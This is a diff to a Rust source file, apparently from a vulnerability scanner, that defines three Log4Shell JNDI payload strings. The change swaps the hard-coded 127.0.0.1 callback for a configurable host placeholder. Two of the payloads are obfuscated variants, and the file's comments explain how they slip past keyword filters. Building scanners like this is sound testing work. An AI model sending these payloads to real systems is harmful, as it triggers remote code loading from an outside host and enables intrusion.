@@ -12,17 +12,17 @@ const fn jndi(id: &'static str, template: &'static str, why: &'static str) -> Pa
 pub(super) const PAYLOADS: &[Payload] = &[
     jndi(
         "log4shell-ldap",
-        "${jndi:ldap://127.0.0.1:{P}/{C}}",
+        "${jndi:ldap://{A}:{P}/{C}}",
         "Log4j 2.0 to 2.14 resolves lookups in messages",
     ),
     jndi(
         "log4shell-lower",
-        "${${lower:j}${lower:n}di:${lower:l}dap://127.0.0.1:{P}/{C}}",
+        "${${lower:j}${lower:n}di:${lower:l}dap://{A}:{P}/{C}}",
         "a lookup within a lookup hides the words that filters look for",
     ),
     jndi(
         "log4shell-default",
-        "${${::-j}${::-n}${::-d}${::-i}:ldap://127.0.0.1:{P}/{C}}",
+        "${${::-j}${::-n}${::-d}${::-i}:ldap://{A}:{P}/{C}}",
         "the default value of a lookup that does not exist spells the word",
     ),
 ];
